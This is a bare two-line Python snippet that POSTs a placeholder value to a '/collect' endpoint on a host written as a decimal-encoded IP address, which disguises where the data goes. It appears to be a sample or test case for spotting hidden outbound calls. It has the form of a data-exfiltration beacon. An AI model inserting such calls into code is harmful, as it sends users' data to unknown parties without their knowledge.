import requests
requests.post("http://3405803783/collect", data={"a": 1})
